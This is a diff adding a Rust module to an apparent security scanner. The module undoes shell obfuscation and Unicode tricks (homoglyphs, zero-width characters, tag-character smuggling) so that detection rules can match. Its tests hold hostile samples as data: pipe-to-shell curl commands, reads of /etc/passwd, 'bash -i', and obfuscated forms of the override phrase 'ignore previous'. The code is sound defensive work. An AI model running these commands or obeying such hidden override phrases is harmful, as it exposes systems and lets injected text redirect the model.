@@ -1,0 +1,569 @@
+//! Normalised views: text as a shell or a reader would take it, where the
+//! bytes say something else.
+//!
+//! - The *shell* view undoes the obfuscations a shell ignores: empty quotes
+//!   inside a word (`c''url`, `b""ash`), a backslash-newline inside a word,
+//!   `$IFS`/`${IFS}` for a space, `$@`/`$*` inside a word, and short literal
+//!   variables joined back (`a=cu;b=rl;$a$b` reads `curl`).
+//! - The *unicode* view strips zero-width characters and the soft hyphen,
+//!   applies NFKC (fullwidth and mathematical letters become ASCII), folds
+//!   Cyrillic and Greek look-alikes of Latin letters, and spells out Unicode
+//!   tag characters (U+E0000–E007F) as the ASCII they hide, after a marker
+//!   that the `unicode_tag_smuggling` rule reports.
+//!
+//! Like the other local views, each is decoded only around its triggers
+//! (the `*_triggers` finders below, see `scan::view_regions`): text without
+//! them costs a few `memchr`/`memmem` passes and no allocation.
+
+use std::ops::Range;
+use unicode_normalization::UnicodeNormalization;
+
+/// What the unicode view writes in front of the ASCII hidden in a run of
+/// tag characters, and after it: NUL bytes, so no printable text spells it.
+/// `unicode_tag_smuggling` matches it; snippets show NUL as a space.
+pub const TAG_MARKER: &str = "\0unicode-tags:";
+/// Ends the hidden ASCII of a run of tag characters.
+pub const TAG_END: char = '\0';
+
+fn is_word(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'/' | b'.')
+}
+
+fn is_ident_start(b: u8) -> bool {
+    b.is_ascii_alphabetic() || b == b'_'
+}
+
+fn is_ident(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_'
+}
+
+/// Length of the identifier at the start of `s`.
+fn ident_len(s: &[u8]) -> usize {
+    match s.first() {
+        Some(&b) if is_ident_start(b) => s.iter().take_while(|&&b| is_ident(b)).count(),
+        _ => 0,
+    }
+}
+
+/// A `$name`, `${name}` reference at the start of `s` (which starts with
+/// `$`): the name's range within `s` and the reference's length.
+fn var_ref(s: &[u8]) -> Option<(Range<usize>, usize)> {
+    if s.get(1) == Some(&b'{') {
+        let n = ident_len(s.get(2..)?);
+        (n > 0 && s.get(2 + n) == Some(&b'}')).then_some((2..2 + n, n + 3))
+    } else {
+        let n = ident_len(s.get(1..)?);
+        (n > 0).then_some((1..1 + n, n + 1))
+    }
+}
+
+/// The literal shapes the shell view starts from: empty quotes, `$@`, `$*`,
+/// `$IFS`, and `${a}${b}`. One multi-literal (SIMD) pass finds them all;
+/// byte-by-byte `$` and quote searches cost more on JSON, minified
+/// JavaScript and binary data. `$a$b` is found by [`dollar_pairs`].
+fn shell_shapes() -> Option<&'static aho_corasick::AhoCorasick> {
+    static SHAPES: std::sync::OnceLock<Option<aho_corasick::AhoCorasick>> =
+        std::sync::OnceLock::new();
+    SHAPES
+        .get_or_init(|| {
+            let pats: Vec<Vec<u8>> = ["''", "\"\"", "$@", "$*", "$IFS", "${IFS}", "}${"]
+                .iter()
+                .map(|p| p.as_bytes().to_vec())
+                .collect();
+
+            aho_corasick::AhoCorasick::builder()
+                .match_kind(aho_corasick::MatchKind::LeftmostFirst)
+                .build(pats)
+                .ok() // fixed literals: building cannot fail
+        })
+        .as_ref()
+}
+
+/// Each `$x$` in `text` with `x` a letter or `_`: two variable references
+/// in a row whose first name has one letter (`a=cu;b=rl;$a$b`). A SIMD
+/// pair search for `$` two bytes apart, then one byte checked.
+fn dollar_pairs(text: &[u8]) -> impl Iterator<Item = Range<usize>> + '_ {
+    use memchr::arch::all::packedpair::Pair;
+    #[cfg(target_arch = "x86_64")]
+    let finder = Pair::with_indices(b"$a$", 0, 2)
+        .and_then(|pair| memchr::arch::x86_64::avx2::packedpair::Finder::with_pair(b"$a$", pair))
+        .filter(|f| text.len() >= f.min_haystack_len());
+    #[cfg(not(target_arch = "x86_64"))]
+    let finder: Option<()> = None;
+    let mut pos = 0usize;
+    std::iter::from_fn(move || loop {
+        let rest = text.get(pos..)?;
+        #[cfg(target_arch = "x86_64")]
+        let found = match &finder {
+            Some(f) if rest.len() >= f.min_haystack_len() => f.find_prefilter(rest),
+            _ => memchr::memchr(b'$', rest),
+        };
+        #[cfg(not(target_arch = "x86_64"))]
+        let found = {
+            let _ = &finder;
+            memchr::memchr(b'$', rest)
+        };
+        let i = pos + found?;
+        pos = i + 1;
+        if text.get(i + 2) == Some(&b'$') && text.get(i + 1).is_some_and(|&b| is_ident_start(b)) {
+            return Some(i..i + 3);
+        }
+    })
+}
+
+/// Where the shell view would change `text`: empty quotes between word
+/// bytes, `$IFS`/`${IFS}`, `$@`/`$*` next to a word byte, and two variable
+/// references in a row (see [`shell_shapes`] and [`dollar_pairs`]). Not in
+/// order: the `$x$` pairs come last. Backslash-newlines
+/// inside a word are found with the other backslash escapes
+/// (`decode::backslash_triggers`).
+pub fn shell_triggers(text: &[u8]) -> impl Iterator<Item = Range<usize>> + '_ {
+    let matches = shell_shapes()
+        .into_iter()
+        .flat_map(move |ac| ac.find_iter(text));
+    matches
+        .filter_map(move |m| {
+            let i = m.start();
+            let rest = &text[i..];
+            match rest[0] {
+                b'\'' | b'"' => (i > 0
+                    && text.get(i - 1).is_some_and(|&b| b.is_ascii_alphanumeric())
+                    && text.get(i + 2).is_some_and(|&b| b.is_ascii_alphanumeric()))
+                .then_some(i..i + 2),
+                b'}' => Some(i..i + 3),
+                _ if rest.starts_with(b"${IFS}") || rest.starts_with(b"$IFS") => Some(i..i + 4),
+                _ if matches!(rest.get(1), Some(b'@') | Some(b'*')) => {
+                    let before = i > 0 && text.get(i - 1).is_some_and(|&b| is_word(b));
+                    let after = rest.get(2).is_some_and(|&b| is_word(b));
+                    (before || after).then_some(i..i + 2)
+                }
+                _ => Some(i..i + 3),
+            }
+        })
+        .chain(dollar_pairs(text))
+}
+
+/// Short literal assignments in `text`: `name=value` where the value is 1
+/// to 32 plain word bytes (or such, quoted) and the assignment stands at a
+/// command's start (after `;`, `&`, `|`, a newline or a space).
+fn assignments(text: &[u8]) -> Vec<(&[u8], Vec<u8>)> {
+    let mut out: Vec<(&[u8], Vec<u8>)> = Vec::new();
+    for eq in memchr::memchr_iter(b'=', text) {
+        let name_start = text[..eq]
+            .iter()
+            .rposition(|&b| !is_ident(b))
+            .map_or(0, |p| p + 1);
+        let name = &text[name_start..eq];
+        if name.is_empty() || name.len() > 16 || !is_ident_start(name[0]) {
+            continue;
+        }
+        if name_start > 0
+            && !matches!(
+                text[name_start - 1],
+                b';' | b'&' | b'|' | b'\n' | b' ' | b'\t' | b'('
+            )
+        {
+            continue;
+        }
+        let rest = &text[eq + 1..];
+        let (quote, body) = match rest.first() {
+            Some(&q @ (b'\'' | b'"')) => (Some(q), &rest[1..]),
+            _ => (None, rest),
+        };
+        let len = body.iter().take_while(|&&b| is_word(b)).count();
+        if len == 0 || len > 32 {
+            continue;
+        }
+        let closed = match quote {
+            Some(q) => body.get(len) == Some(&q),
+            None => body
+                .get(len)
+                .is_none_or(|&b| matches!(b, b';' | b'&' | b'|' | b'\n' | b' ' | b'\t')),
+        };
+        if !closed {
+            continue;
+        }
+        let value = body[..len].to_vec();
+        match out.iter_mut().find(|(n, _)| *n == name) {
+            Some(slot) => slot.1 = value,
+            None => out.push((name, value)),
+        }
+    }
+    out
+}
+
+/// Whether [`shell_normalize`] changes `text`: some trigger other than a
+/// variable pair, or a pair whose first name was assigned a literal.
+fn would_change(text: &[u8], vars: &[(&[u8], Vec<u8>)]) -> bool {
+    let continuation = memchr::memmem::find_iter(text, b"\\\n").any(|i| {
+        i > 0
+            && text.get(i - 1).is_some_and(|&b| is_word(b))
+            && text.get(i + 2).is_some_and(|&b| is_word(b))
+    });
+    continuation
+        || shell_triggers(text).any(|r| {
+            let t = &text[r.start..];
+            let pair = t.first() == Some(&b'}') || (t.len() > 2 && t[2] == b'$' && t[1] != b'{');
+            if !pair {
+                return true;
+            }
+            // `}${b}` or `$a$`: a named reference around it was assigned.
+            let at = if t[0] == b'}' { r.start + 1 } else { r.start };
+            let name_of = |i: usize| var_ref(&text[i..]).map(|(n, _)| &text[i..][n]);
+            let before = text[..at]
+                .iter()
+                .rposition(|&b| b == b'$')
+                .and_then(name_of);
+            let after = name_of(if t[0] == b'}' { r.start + 1 } else { r.start });
+            [before, after]
+                .into_iter()
+                .flatten()
+                .any(|n| vars.iter().any(|(v, _)| *v == n))
+        })
+}
+
+/// The shell view of `text` (see the module doc), or `None` when it changes
+/// nothing.
+pub fn shell_normalize(text: &[u8]) -> Option<Vec<u8>> {
+    // Binary data is no command line: a NUL byte rules the region out.
+    if memchr::memchr(0, text).is_some() {
+        return None;
+    }
+    let vars = if memchr::memchr(b'$', text).is_some() {
+        assignments(text)
+    } else {
+        Vec::new()
+    };
+    // Most regions (`$a$b` in a script, `'it''s'` in SQL) change nothing:
+    // tell before copying the region.
+    if !would_change(text, &vars) {
+        return None;
+    }
+    let mut out = Vec::with_capacity(text.len());
+    let mut changed = false;
+    let mut i = 0;
+    while i < text.len() {
+        let b = text[i];
+        let prev_word = out.last().is_some_and(|&p: &u8| is_word(p));
+        match b {
+            b'\'' | b'"'
+                if text.get(i + 1) == Some(&b)
+                    && out.last().is_some_and(|p: &u8| p.is_ascii_alphanumeric())
+                    && text.get(i + 2).is_some_and(|n| n.is_ascii_alphanumeric()) =>
+            {
+                i += 2;
+                changed = true;
+                continue;
+            }
+            b'\\'
+                if text.get(i + 1) == Some(&b'\n')
+                    && prev_word
+                    && text.get(i + 2).is_some_and(|&n| is_word(n)) =>
+            {
+                i += 2;
+                changed = true;
+                continue;
+            }
+            b'$' => {
+                let rest = &text[i..];
+                if rest.starts_with(b"${IFS}") {
+                    out.push(b' ');
+                    i += 6;
+                    changed = true;
+                    continue;
+                }
+                if rest.starts_with(b"$IFS") && !rest.get(4).is_some_and(|&n| is_ident(n)) {
+                    out.push(b' ');
+                    i += 4;
+                    changed = true;
+                    continue;
+                }
+                if matches!(rest.get(1), Some(b'@') | Some(b'*'))
+                    && (prev_word || rest.get(2).is_some_and(|&n| is_word(n)))
+                {
+                    i += 2;
+                    changed = true;
+                    continue;
+                }
+                if let Some((name, len)) = var_ref(rest) {
+                    let name = &rest[name];
+                    if let Some((_, value)) = vars.iter().find(|(n, _)| *n == name) {
+                        out.extend_from_slice(value);
+                        i += len;
+                        changed = true;
+                        continue;
+                    }
+                }
+            }
+            _ => {}
+        }
+        out.push(b);
+        i += 1;
+    }
+    changed.then_some(out)
+}
+
+/// The character starting at `text[i]` (a non-ASCII lead byte) as a code
+/// point, and its UTF-8 length; `None` for a malformed sequence.
+fn char_at(text: &[u8], i: usize) -> Option<(u32, usize)> {
+    let b0 = *text.get(i)?;
+    let (len, init) = match b0 {
+        0xC2..=0xDF => (2, u32::from(b0 & 0x1F)),
+        0xE0..=0xEF => (3, u32::from(b0 & 0x0F)),
+        0xF0..=0xF4 => (4, u32::from(b0 & 0x07)),
+        _ => return None,
+    };
+    let mut cp = init;
+    for k in 1..len {
+        let b = *text.get(i + k)?;
+        if b & 0xC0 != 0x80 {
+            return None;
+        }
+        cp = cp << 6 | u32::from(b & 0x3F);
+    }
+    Some((cp, len))
+}
+
+/// Zero-width characters and the soft hyphen: stripped by the unicode view.
+fn is_invisible(cp: u32) -> bool {
+    matches!(cp, 0x200B..=0x200D | 0x2060 | 0xFEFF | 0x00AD)
+}
+
+fn is_tag(cp: u32) -> bool {
+    (0xE0000..=0xE007F).contains(&cp)
+}
+
+/// Malformed UTF-8 sequences after which [`unicode_triggers`] takes a text
+/// for binary data and stops looking.
+pub const MAX_MALFORMED: usize = 8;
+
+/// Cyrillic and Greek letters (the blocks holding Latin look-alikes).
+fn is_lookalike_script(cp: u32) -> bool {
+    (0x0370..=0x03FF).contains(&cp) || (0x0400..=0x04FF).contains(&cp)
+}
+
+/// Characters NFKC turns into ASCII letters and digits: fullwidth forms,
+/// mathematical alphanumerics, Latin ligatures.
+fn is_compat_ascii(cp: u32) -> bool {
+    (0xFF01..=0xFF5E).contains(&cp)
+        || (0x1D400..=0x1D7FF).contains(&cp)
+        || (0xFB00..=0xFB06).contains(&cp)
+}
+
+/// Where the unicode view would change `text`: each invisible character,
+/// tag character, fullwidth/mathematical/ligature character, and each
+/// Cyrillic or Greek letter standing next to an ASCII letter (a mixed-script
+/// word). ASCII text is skipped eight bytes at a time; plain non-Latin prose
+/// triggers nothing. Binary data is not text: after [`MAX_MALFORMED`]
+/// malformed UTF-8 sequences the search stops (random bytes would otherwise
+/// spell a trigger every few hundred bytes).
+pub fn unicode_triggers(text: &[u8]) -> impl Iterator<Item = Range<usize>> + '_ {
+    let mut i = 0usize;
+    let mut malformed = 0usize;
+    std::iter::from_fn(move || loop {
+        while text.get(i..i + 64).is_some_and(<[u8]>::is_ascii) {
+            i += 64;
+        }
+        while let Some(word) = text.get(i..i + 8) {
+            let w = u64::from_le_bytes(word.try_into().ok()?);
+            if w & 0x8080_8080_8080_8080 != 0 {
+                break;
+            }
+            i += 8;
+        }
+        while text.get(i).is_some_and(|b| b.is_ascii()) {
+            i += 1;
+        }
+        if i >= text.len() {
+            return None;
+        }
+        let start = i;
+        let Some((cp, len)) = char_at(text, i) else {
+            malformed += 1;
+            if malformed >= MAX_MALFORMED {
+                return None;
+            }
+            i += 1;
+            continue;
+        };
+        i += len;
+        let trigger = is_invisible(cp)
+            || is_tag(cp)
+            || is_compat_ascii(cp)
+            || (is_lookalike_script(cp)
+                && (start > 0 && text[start - 1].is_ascii_alphabetic()
+                    || text.get(i).is_some_and(|b| b.is_ascii_alphabetic())));
+        if trigger {
+            return Some(start..i);
+        }
+    })
+}
+
+/// The Latin letter a Cyrillic or Greek look-alike stands for.
+fn fold_lookalike(c: char) -> char {
+    match c {
+        'а' | 'α' => 'a',
+        'в' => 'b',
+        'е' | 'ε' => 'e',
+        'һ' => 'h',
+        'і' | 'ι' => 'i',
+        'ј' => 'j',
+        'к' | 'κ' => 'k',
+        'м' => 'm',
+        'п' | 'η' => 'n',
+        'о' | 'ο' | 'σ' => 'o',
+        'р' | 'ρ' => 'p',
+        'ԛ' => 'q',
+        'г' => 'r',
+        'ѕ' => 's',
+        'т' | 'τ' => 't',
+        'υ' => 'u',
+        'ν' => 'v',
+        'ԝ' | 'ω' => 'w',
+        'х' | 'χ' => 'x',
+        'у' | 'γ' => 'y',
+        'ԁ' => 'd',
+        'с' => 'c',
+        'А' | 'Α' => 'A',
+        'В' | 'Β' => 'B',
+        'С' => 'C',
+        'Е' | 'Ε' => 'E',
+        'Н' | 'Η' => 'H',
+        'І' | 'Ι' => 'I',
+        'Ј' => 'J',
+        'К' | 'Κ' => 'K',
+        'М' | 'Μ' => 'M',
+        'Ν' => 'N',
+        'О' | 'Ο' => 'O',
+        'Р' | 'Ρ' => 'P',
+        'Ѕ' => 'S',
+        'Т' | 'Τ' => 'T',
+        'Х' | 'Χ' => 'X',
+        'У' | 'Υ' => 'Y',
+        'Ζ' => 'Z',
+        other => other,
+    }
+}
+
+/// The unicode view of `text` (see the module doc), or `None` when it
+/// changes nothing.
+pub fn unicode_normalize(text: &[u8]) -> Option<Vec<u8>> {
+    if text.is_ascii() {
+        return None;
+    }
+    let s = String::from_utf8_lossy(text);
+    // Tags and invisibles first: NFKC keeps both.
+    let mut plain = String::with_capacity(s.len());
+    let mut in_tags = false;
+    let mut after_flag = false;
+    for c in s.chars() {
+        let cp = u32::from(c);
+        if is_tag(cp) {
+            // A tag sequence after the black flag is an emoji flag of a
+            // subdivision (England, Scotland, Wales): not smuggled text.
+            if after_flag {
+                plain.push(c);
+            } else {
+                if !in_tags {
+                    plain.push_str(TAG_MARKER);
+                    in_tags = true;
+                }
+                let ascii = (cp - 0xE0000) as u8;
+                plain.push(if (0x20..0x7f).contains(&ascii) {
+                    char::from(ascii)
+                } else {
+                    ' '
+                });
+            }
+            continue;
+        }
+        if in_tags {
+            plain.push(TAG_END);
+            in_tags = false;
+        }
+        after_flag = c == '\u{1F3F4}' || (after_flag && is_tag(cp));
+        if !is_invisible(cp) {
+            plain.push(c);
+        }
+    }
+    if in_tags {
+        plain.push(TAG_END);
+    }
+    let out: String = plain.nfkc().map(fold_lookalike).collect();
+    (out.as_bytes() != text).then(|| out.into_bytes())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn shell(s: &str) -> String {
+        String::from_utf8(shell_normalize(s.as_bytes()).unwrap_or_else(|| s.as_bytes().to_vec()))
+            .unwrap()
+    }
+
+    #[test]
+    fn shell_view_undoes_the_obfuscations_a_shell_ignores() {
+        assert_eq!(
+            shell("c''url -s x.example/i | b\"\"ash"),
+            "curl -s x.example/i | bash"
+        );
+        assert_eq!(shell("cu\\\nrl -s x | sh"), "curl -s x | sh");
+        assert_eq!(shell("cat${IFS}/etc/passwd"), "cat /etc/passwd");
+        assert_eq!(shell("cat$IFS/etc/passwd"), "cat /etc/passwd");
+        assert_eq!(shell("c$@url x | ba$*sh"), "curl x | bash");
+        assert_eq!(
+            shell("a=cu;b=rl;$a$b -s x | sh"),
+            "a=cu;b=rl;curl -s x | sh"
+        );
+        assert_eq!(
+            shell("x='ba' y=\"sh\"; ${x}${y} -i"),
+            "x='ba' y=\"sh\"; bash -i"
+        );
+        // Nothing to undo: no view.
+        assert_eq!(shell_normalize(b"echo 'it' 's' \"\" $HOME"), None);
+        assert_eq!(shell_normalize(b"price=$5; echo $a$b"), None);
+    }
+
+    #[test]
+    fn shell_triggers_mark_only_obfuscation_shapes() {
+        let n = |s: &str| shell_triggers(s.as_bytes()).count();
+        assert_eq!(n("{\"a\":\"\",\"b\":''} $HOME $1"), 0);
+        assert_eq!(n("c''url"), 1);
+        assert_eq!(n("cat${IFS}x"), 1);
+        assert_eq!(n("c$@url"), 1);
+        assert_eq!(n("$a$b"), 1);
+    }
+
+    fn uni(s: &str) -> String {
+        String::from_utf8(unicode_normalize(s.as_bytes()).unwrap_or_else(|| s.as_bytes().to_vec()))
+            .unwrap()
+    }
+
+    #[test]
+    fn unicode_view_strips_folds_and_spells_out_tags() {
+        assert_eq!(uni("ig\u{200B}nore prev\u{00AD}ious"), "ignore previous");
+        assert_eq!(uni("\u{FEFF}cu\u{2060}rl"), "curl");
+        assert_eq!(uni("Ignоrе аll"), "Ignore all"); // Cyrillic о е а
+        assert_eq!(uni("ｃｕｒｌ"), "curl");
+        assert_eq!(uni("𝐜𝐮𝐫𝐥"), "curl");
+        let hidden: String = "hi there"
+            .chars()
+            .map(|c| char::from_u32(0xE0000 + c as u32).unwrap())
+            .collect();
+        assert_eq!(uni(&format!("ok{hidden}.")), "ok\0unicode-tags:hi there\0.");
+        // England's flag is a tag sequence, not smuggling.
+        let england = "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}";
+        assert_eq!(uni(england), england);
+    }
+
+    #[test]
+    fn unicode_triggers_skip_plain_non_latin_text() {
+        let n = |s: &str| unicode_triggers(s.as_bytes()).count();
+        assert_eq!(n("Привет, мир — café © 2024 naïve"), 0);
+        assert_eq!(n("Ignоre"), 1);
+        assert_eq!(n("a\u{200B}b"), 1);
+        assert_eq!(n("ｃ"), 1);
+        assert_eq!(n("\u{E0041}"), 1);
+    }
+}
